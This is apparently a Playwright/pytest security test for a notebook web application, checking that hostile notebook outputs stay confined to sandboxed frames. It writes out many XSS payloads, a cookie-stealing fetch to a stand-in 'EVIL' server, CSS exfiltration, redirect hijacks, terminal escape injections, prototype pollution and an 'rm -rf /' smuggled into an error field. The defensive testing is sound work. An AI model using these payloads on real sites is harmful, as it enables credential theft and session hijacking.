"""Outputs and Markdown that mean harm: nothing runs outside a frame, nothing leaves with credentials, the page lives on."""

import json
import threading
import time
from http.server import BaseHTTPRequestHandler, HTTPServer

import pytest
from playwright.sync_api import expect

from tab import Tab, sign_in

FENCE = "try{parent.postMessage(document.cookie,'*')}catch(e){};try{alert(1);top.ran=1}catch(e){};try{parent.document.title='mine'}catch(e){};fetch('EVIL/f',{mode:'no-cors',credentials:'include'}).catch(()=>0)"
HTML = [
    "<img src=x onerror=\"FENCE\">",
    "<svg><script>FENCE</script></svg>",
    "<svg><animate onbegin=\"FENCE\" attributeName=x dur=1s></svg><svg><use href=\"data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>FENCE</script></svg>#x\"></svg>",
    "<form id=x action='javascript:FENCE'></form><button form=x>Run</button><script>document.querySelector('button').click()</script>",
    "<a id=MathJax><a id=MathJax name=config href='javascript:FENCE'></a></a><img name=getElementById><img name=body>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=FENCE&gt;\">",
    "<button data-commandlinker-command=run data-cell=x data-rac>Run</button>",
    "<meta http-equiv=refresh content='0;url=EVIL/refresh'><base href='EVIL/'><iframe src='/settings'></iframe><link rel=preload as=image href='EVIL/p'>",
    "<style>@import 'EVIL/css'; input[value^=a]{background:url('EVIL/x')}</style><input value=a>",
    "<div style='position:fixed;inset:0;z-index:9999;background:red'>Your session ended. <input type=password></div>",
    "<script>FENCE;for(const m of [{type:'run',cells:[]},{type:'height',height:1e99},{type:'open',url:'javascript:alert(1)'},"
    "{type:'comm',id:'x',data:{},buffers:[]},{type:'colibri-frame-ready'}]){parent.postMessage(m,'*')};"
    "top.location='EVIL/top';window.open('EVIL/open')</script>",
]
MARKDOWN = [
    "[x](javascript:FENCE) [y](data:text/html,<script>FENCE</script>) [z](vbscript:x) [w](java\tscript:FENCE) [v](&#106;avascript:FENCE)",
    "$\\href{javascript:alert(1)}{x}$ $\\def\\a{\\a\\a}\\a$ $$\\htmlData{x=1}{y}$$",
    "> " * 10_000 + "deep", "- " * 5_000 + "deep", "[" * 200_000,
    "<img src=x onerror='FENCE'><svg/onload=FENCE><details open ontoggle=FENCE><iframe srcdoc='<script>FENCE</script>'>",
]
TEXT = ["\x1b]8;;javascript:alert(1)\x07link\x1b]8;;\x07", "\x1b]52;c;ZXZpbA==\x07", "\x1b[9999999C\x1b[99999999;99999999Hx", "a\r" * 1_000_000]


@pytest.fixture
def evil():
    """A server of somebody else's; what it was asked, with cookies."""
    asked = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self):
            asked.append((self.path, self.headers.get("Cookie")))
            self.send_response(204)
            self.end_headers()

        do_POST = do_GET

        def log_message(self, *arguments):
            pass

    server = HTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    server.asked, server.url = asked, f"http://127.0.0.1:{server.server_port}"
    yield server
    server.shutdown()


def output(data, **more):
    return {"output_type": "display_data", "data": data, "metadata": {}, **more}


def code(*outputs):
    return {"cell_type": "code", "execution_count": None, "metadata": {}, "outputs": list(outputs), "source": "1"}


def notebook_of(evil):
    arm = lambda text: text.replace("FENCE", FENCE).replace("EVIL", evil.url)
    svg = arm("<svg xmlns='http://www.w3.org/2000/svg'><script>FENCE</script><rect width='9' height='9' onclick='FENCE'/></svg>")
    stream = [{"output_type": "stream", "name": "stdout", "text": text} for text in TEXT]
    odd = [output({"text/html": 7, "text/plain": "odd"}), output({"text/html": None, "text/plain": "none"}),
           output({"text/html": ["a", 3], "text/plain": "list"}),
           output({"image/png": "iVBORw0KGgo="}, metadata={"image/png": {"width": 100_000, "height": 100_000}}),
           output({"application/vnd.plotly.v1+json": {"data": [{"type": "evil", "x": {"__proto__": 1}}], "layout": {"height": 1e12}}}),
           output({"application/vnd.vegalite.v5+json": {"data": {"url": f"{evil.url}/vega"}, "mark": "bar"}}),
           output({"application/vnd.jupyter.widget-view+json": {"model_id": "<img src=x onerror=alert(1)>"}, "text/plain": "widget"}),
           output({"application/vnd.colibri.table+json": {"columns": "x", "rows": 3}, "text/html": "<table class='dataframe'><thead></thead></table>"}),
           output({"application/json": {"__proto__": {"polluted": True}, "constructor": 1}}),
           output({"text/latex": "$\\href{javascript:alert(1)}{x}$"}), output({"image/svg+xml": svg}),
           output({"application/javascript": arm("FENCE")}),
           {"output_type": "error", "ename": "<img src=x onerror=alert(1)>", "evalue": "No module named 'os; rm -rf /'",
            "traceback": ["\x1b[31m<img src=x onerror=alert(1)>", "Cell In[99999999], line 999999999"]}]
    cells = [code(output({"text/html": arm(html), "text/plain": "html"})) for html in HTML] + [code(each) for each in stream + odd]
    cells += [{"cell_type": "markdown", "metadata": {}, "source": arm(text)} for text in MARKDOWN]
    metadata = {"trusted": True, "kernelspec": {"name": "python3", "display_name": "<img src=x onerror=alert(1)>", "language": "<b>"}}
    for number, cell in enumerate(cells):
        cell["id"] = f"c{number}"
    return json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": metadata, "cells": cells}), len(cells)


@pytest.fixture
def bare_context(browser, person):
    """One in which errors of scripts are no failure: what these outputs bring fails in its frame."""
    context = browser.new_context(viewport={"width": 1280, "height": 900}, locale="en-US")
    sign_in(context, person)
    yield context
    context.close()


def settled(page, asked):
    """Until the frames have asked for nothing for a second. "networkidle" never comes where a frame has gone that still loaded."""
    deadline, known = time.monotonic() + 30, -1
    while len(asked) != known and time.monotonic() < deadline:
        known = len(asked)
        page.wait_for_timeout(1000)


def test_harmful_outputs_stay_in_their_frames(bare_context, person, evil):
    context = bare_context
    text, count = notebook_of(evil)
    answer = person.import_file("bad.ipynb", text.encode())
    assert answer.status_code == 201, answer.text
    page = context.new_page()
    dialogs, pages, messages, broken = [], [], [], []
    page.on("pageerror", lambda error: broken.append(str(error.stack)) if "/assets/page-" in str(error.stack) or "/assets/notebook-" in str(error.stack) else None)
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    context.on("page", lambda other: pages.append(other.url))
    page.on("framenavigated", lambda frame: messages.append(frame.url) if frame == page.main_frame else None)
    api = []
    page.on("request", lambda request: api.append(request.url) if request.frame != page.main_frame else None)
    page.goto(f"{person.url}/notebooks/{answer.json()['id']}")
    expect(page.get_by_role("main", name="Cells")).to_be_visible(timeout=30_000)  # 15 MB of harm.
    tab = Tab(page, person, answer.json()["id"])
    expect(page.locator("[data-cell]")).to_have_count(count)
    for number in range(count):  # Each comes into sight, and has its time.
        page.locator(f"[data-cell='c{number}']").scroll_into_view_if_needed()
        page.wait_for_function("() => new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(() => done(true))))")
    settled(page, api)
    assert not dialogs and not pages and not broken, (dialogs, pages, broken)
    assert page.evaluate("window.ran") is None and page.evaluate("({}).polluted") is None
    assert all(url.startswith(person.url) for url in messages), "the page was led away"
    assert all(cookie is None for _, cookie in evil.asked), "a request left with credentials"
    frames = page.locator("iframe")
    assert frames.evaluate_all("all => all.every((frame) => frame.getAttribute('sandbox') === 'allow-scripts')")
    assert not [url for url in api if "/api/" in url and url.startswith(person.url)], "a frame reached the API"
    assert page.evaluate("""() => [...document.querySelectorAll('main *')].every((element) =>
        [...element.attributes].every(({ name, value }) => !/^on/i.test(name) && !/^\\s*(javascript|vbscript):/i.test(value)))""")
    # And it lives on: cells can be written and run.
    tab.run("print('lives', 'on')")
    expect(tab.outputs()).to_have_text("lives on")
    person.end_runtime(tab.notebook)


def test_a_script_without_end_hangs_its_frame_only(context, person):
    text = json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [
        {**code(output({"text/html": "<p>busy</p><script>while(true){}</script>"})), "id": "busy"},
        {"id": "free", "cell_type": "markdown", "metadata": {}, "source": "free"}]})
    page = context.new_page()
    tab = Tab(page, person, person.import_file("busy.ipynb", text.encode()).json()["id"])
    expect(tab.cell(0).locator("iframe")).to_be_attached()
    tab.add_code("still = 'typed'")
    expect(tab.editor()).to_have_text("still = 'typed'")
    tab.saved()
